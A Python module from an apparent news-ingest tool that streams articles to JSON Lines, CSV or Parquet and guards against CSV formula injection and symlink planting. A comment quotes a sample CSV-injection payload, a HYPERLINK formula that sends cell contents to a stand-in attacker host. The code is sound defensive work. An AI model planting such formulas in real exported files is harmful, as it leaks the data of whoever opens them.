"""Export articles (or all their versions) to JSON Lines, CSV or Parquet, streamed.

Rows are read from one cursor and written as they come (Parquet in row groups of
`BATCH_ROWS`), so memory stays flat however large the database is. The database is opened
read-only: an export runs beside the daemon and never blocks or changes it. Field contract
and types: docs/reading.md.

The texts are the web's, so the CSV export neutralises cells a spreadsheet would run as a
formula (OWASP's CSV injection advice), an output file is never overwritten unless asked,
and the temporary file is created so that nothing planted in the directory is followed.
"""
from __future__ import annotations

import contextlib
import csv
import errno
import io
import json
import os
import secrets
import sqlite3
import sys
from collections.abc import Iterable, Iterator
from dataclasses import fields
from datetime import datetime
from pathlib import Path
from typing import IO, Any, TypeVar

from ingest.progress import progress as progress_line
from ingest.records import Article, DuplicateOf, GarbleInfo, Version
from ingest.times import to_text

from .query import (
    ARTICLE_FIELDS,
    VERSION_FIELDS,
    ExportFilters,
    ReadError,
    count_articles,
    count_versions,
    iter_articles,
    iter_versions,
    open_readonly,
)

FORMATS = ("jsonl", "csv", "parquet")
BATCH_ROWS = 1000
Row = TypeVar("Row")


def as_dict(row: Article | Version, times_as_text: bool = True) -> dict[str, Any]:
    """One export row (docs/reading.md): the record's fields in order, timestamps as UTC ISO
    text (or datetimes, for Parquet), `duplicate` and `garbled` as objects."""
    out: dict[str, Any] = {}
    for name in VERSION_FIELDS if isinstance(row, Version) else ARTICLE_FIELDS:
        value = getattr(row, name)
        if isinstance(value, datetime) and times_as_text:
            value = to_text(value)
        elif isinstance(value, (DuplicateOf, GarbleInfo)):
            value = {f.name: getattr(value, f.name) for f in fields(value)}
            if not times_as_text:  # Parquet: free-form evidence travels as JSON text
                value["evidence"] = json.dumps(value["evidence"], ensure_ascii=False, default=str)
        out[name] = value
    return out


ExportError = ReadError  # the export cannot start (missing database, schema too old, bad output)


def export(db_path: str | Path, out: str | Path | IO[Any], fmt: str = "jsonl", *, versions: bool = False,
           filters: ExportFilters | None = None, progress: bool | None = None, csv_raw: bool = False,
           force: bool = False) -> int:
    """Write matching articles (or, with `versions`, every version of them) to `out`; return rows written.

    `out` is a path, "-" (stdout; jsonl/csv only) or an open stream (text or binary; Parquet
    needs binary). A path is written to a temporary sibling and renamed at the end, so an
    interrupted export never leaves a half file under the final name; an existing file is an
    error unless `force`. CSV cells that a spreadsheet would run as a formula are prefixed with
    "'" unless `csv_raw`. `progress` None shows a rich progress bar on stderr only when stderr
    is a terminal.
    """
    filters = filters or ExportFilters()
    if fmt not in FORMATS:
        raise ExportError(f"unknown format {fmt!r} (one of: {', '.join(FORMATS)})")
    if fmt == "parquet" and (out == "-" or isinstance(out, io.TextIOBase)):
        raise ExportError("parquet needs a file path or a binary stream, not stdout")
    if isinstance(out, (str, Path)) and out != "-":
        if not Path(out).resolve().parent.is_dir():
            raise ExportError(f"no directory for {out}")
        if not force and os.path.lexists(out):
            raise ExportError(f"{out} exists (--force to overwrite it)")
    conn = open_readonly(db_path)
    try:
        # One read transaction: a consistent snapshot even while the daemon writes (WAL).
        conn.execute("BEGIN")
        rows: Iterable[Article | Version] = (iter_versions(conn, filters) if versions
                                                   else iter_articles(conn, filters))
        fields = VERSION_FIELDS if versions else ARTICLE_FIELDS
        if progress is None:
            progress = sys.stderr.isatty()  # a bar on a terminal only, never in logs or pipes
        with _progress(rows, conn, filters, versions, progress) as rows:
            if fmt == "parquet":
                with _binary_out(out, force) as stream:
                    return _write_parquet(rows, stream, parquet_schema(versions))
            with _text_out(out, force) as stream:
                if fmt == "jsonl":
                    return _write_jsonl(rows, stream)
                return _write_csv(rows, stream, fields, raw=csv_raw)
    finally:
        conn.close()


def parquet_schema(versions: bool = False) -> Any:
    """The Arrow schema of the Parquet export (pyarrow is imported only when needed)."""
    import pyarrow as pa

    _TS = pa.timestamp("us", tz="UTC")
    _STRS = pa.list_(pa.string())
    ARTICLE_SCHEMA = pa.schema([
        ("id", pa.int64()), ("url", pa.string()), ("canonical_url", pa.string()), ("site", pa.string()),
        ("page_kind", pa.string()), ("title", pa.string()), ("text", pa.string()), ("author", pa.string()),
        ("published", _TS),
        ("language", pa.string()), ("first_seen", _TS), ("last_seen", _TS), ("version", pa.int64()),
        ("versions", pa.int64()), ("feeds", _STRS), ("topics", _STRS),
        ("duplicate", pa.struct([("of", pa.string()), ("kind", pa.string()), ("similarity", pa.float64()),
                                 ("summary", pa.string()), ("evidence", pa.string())])),
        ("garbled", pa.struct([("score", pa.float64()), ("reasons", _STRS), ("sources", _STRS),
                               ("summary", pa.string()), ("evidence", pa.string())])),
    ])
    VERSION_SCHEMA = pa.schema([
        ("url", pa.string()), ("version", pa.int64()), ("fetched_at", _TS), ("title", pa.string()),
        ("text", pa.string()), ("text_hash", pa.string()), ("change", pa.string()), ("words_added", pa.int64()),
        ("words_removed", pa.int64()), ("author", pa.string()), ("published", _TS),
    ])
    return VERSION_SCHEMA if versions else ARTICLE_SCHEMA


def _write_jsonl(rows: Iterable[Article | Version], stream: IO[str]) -> int:
    n = 0
    for row in rows:
        stream.write(json.dumps(as_dict(row), ensure_ascii=False))
        stream.write("\n")
        n += 1
    return n


# A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets (= + - @)
# or can make one (tab, carriage return): OWASP's list for CSV injection. A title like
# '=HYPERLINK("http://evil.example/?"&A1, "click")' would otherwise run when the file is opened.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: str) -> str:
    """OWASP's advice: a cell a spreadsheet would run as a formula gets a leading single quote,
    which spreadsheets show as text (and hide)."""
    return "'" + cell if cell.startswith(FORMULA_START) else cell


def _write_csv(rows: Iterable[Article | Version], stream: IO[str], fields: tuple[str, ...],
               raw: bool = False) -> int:
    """Same columns as JSON; lists and objects as JSON text, None as an empty cell; text cells
    neutralised against formulas unless `raw` (numbers are numbers: -1 is not a formula)."""
    writer = csv.writer(stream)
    writer.writerow(fields)
    n = 0
    for row in rows:
        cells = ["" if v is None else json.dumps(v, ensure_ascii=False) if isinstance(v, (list, dict)) else v
                 for v in as_dict(row).values()]
        writer.writerow(cells if raw else [neutralise(c) if isinstance(c, str) else c for c in cells])
        n += 1
    return n


def _write_parquet(rows: Iterable[Article | Version], stream: IO[bytes], schema: Any) -> int:
    """Row groups of BATCH_ROWS rows; timestamps as UTC datetimes."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    names = schema.names
    n = 0
    with pq.ParquetWriter(stream, schema, compression="zstd") as writer:
        for batch in _batches(rows, BATCH_ROWS):
            cols: dict[str, list[Any]] = {name: [] for name in names}
            for row in batch:
                for name, value in as_dict(row, times_as_text=False).items():
                    cols[name].append(value)
            writer.write_table(pa.Table.from_pydict(cols, schema=schema))
            n += len(batch)
    return n


def _batches(rows: Iterable[Row], size: int) -> Iterator[list[Row]]:
    batch: list[Row] = []
    for row in rows:
        batch.append(row)
        if len(batch) >= size:
            yield batch
            batch = []
    if batch:
        yield batch


@contextlib.contextmanager
def _progress(rows: Iterable[Row], conn: sqlite3.Connection, filters: ExportFilters, versions: bool,
              show: bool) -> Iterator[Iterable[Row]]:
    """The rows, counted on a progress line (ingest/progress.py) when `show`."""
    if not show:
        yield rows
        return
    total = count_versions(conn, filters) if versions else count_articles(conn, filters)
    with progress_line("export", total, "versions" if versions else "articles", enabled=True) as bar:
        def counted() -> Iterator[Row]:
            for row in rows:
                yield row
                bar.advance()
        yield counted()


@contextlib.contextmanager
def _text_out(out: str | Path | IO[Any], force: bool) -> Iterator[IO[str]]:
    if out == "-":
        yield sys.stdout
        sys.stdout.flush()
    elif isinstance(out, (str, Path)):
        with _atomic_path(out, "w", force, encoding="utf-8", newline="") as f:
            yield f
    elif hasattr(out, "encoding"):  # a text stream (io.TextIOBase and look-alikes)
        yield out
    else:  # a binary stream: encode on the way, hand the stream back open
        wrapper = io.TextIOWrapper(out, encoding="utf-8", newline="", write_through=True)
        try:
            yield wrapper
            wrapper.flush()
        finally:
            wrapper.detach()


@contextlib.contextmanager
def _binary_out(out: str | Path | IO[Any], force: bool) -> Iterator[IO[bytes]]:
    if isinstance(out, (str, Path)):
        with _atomic_path(out, "wb", force) as f:
            yield f
    else:
        yield out


_TEMP_FLAGS = os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW | getattr(os, "O_CLOEXEC", 0)


@contextlib.contextmanager
def _atomic_path(path: str | Path, mode: str, force: bool, **kw: Any) -> Iterator[IO[Any]]:
    """A new temporary file beside `path`, renamed to `path` when the block ends without error.

    Hand-written rather than tempfile.mkstemp: the same O_CREAT|O_EXCL|O_NOFOLLOW creation under
    an unpredictable name, but with the usual 0666 & ~umask mode (mkstemp's 0600 would make
    the export unreadable to the group). Everything is done relative to the directory opened
    once, so a directory swapped for a symlink meanwhile is not followed either. A name planted
    in advance (a `.NAME.part` symlink to ~/.bashrc) is never opened: the name is random and an
    existing one is refused (O_EXCL), a symlink included (O_NOFOLLOW). Without `force` the file
    is linked under its final name (link() fails if the name exists), so a file created there
    meanwhile is not replaced either. On any exception, KeyboardInterrupt included, the
    temporary file is removed.
    """
    target = Path(path)
    dir_fd = os.open(target.parent if str(target.parent) else ".", os.O_RDONLY | os.O_DIRECTORY)
    tmp: str | None = None  # the name to remove if anything goes wrong (set before the file exists)
    try:
        f: IO[Any] | None = None
        for _ in range(100):
            tmp = f".{target.name}.{secrets.token_hex(8)}.part"
            try:
                f = os.fdopen(os.open(tmp, _TEMP_FLAGS, 0o666, dir_fd=dir_fd), mode, **kw)
                break
            except FileExistsError:
                tmp = None  # not ours: never removed
        if f is None:  # pragma: no cover - 100 collisions of 64 random bits
            raise ExportError(f"cannot create a temporary file beside {target}")
        with f:
            yield f
            f.flush()
            mine = os.fstat(f.fileno())
        assert tmp is not None
        now = os.stat(tmp, dir_fd=dir_fd, follow_symlinks=False)
        if (now.st_dev, now.st_ino) != (mine.st_dev, mine.st_ino):
            raise ExportError(f"the temporary file beside {target} was replaced while writing")
        _publish(tmp, target.name, dir_fd, force, target)
        tmp = None
    except BaseException:
        if tmp is not None:
            with contextlib.suppress(OSError):
                os.unlink(tmp, dir_fd=dir_fd)
        raise
    finally:
        os.close(dir_fd)


def _publish(tmp: str, name: str, dir_fd: int, force: bool, target: Path) -> None:
    """Give the finished temporary file its final name (the temporary name is gone after)."""
    if force:
        os.replace(tmp, name, src_dir_fd=dir_fd, dst_dir_fd=dir_fd)
        return
    try:
        os.link(tmp, name, src_dir_fd=dir_fd, dst_dir_fd=dir_fd, follow_symlinks=False)
    except FileExistsError:
        raise ExportError(f"{target} exists (--force to overwrite it)") from None
    except OSError as e:
        if e.errno not in (errno.EPERM, errno.ENOTSUP, errno.EOPNOTSUPP, errno.EXDEV, errno.EMLINK):
            raise
        # a file system without hard links: checked, then renamed (a tiny window, as before)
        if os.path.lexists(target):
            raise ExportError(f"{target} exists (--force to overwrite it)") from None
        os.replace(tmp, name, src_dir_fd=dir_fd, dst_dir_fd=dir_fd)
        return
    os.unlink(tmp, dir_fd=dir_fd)
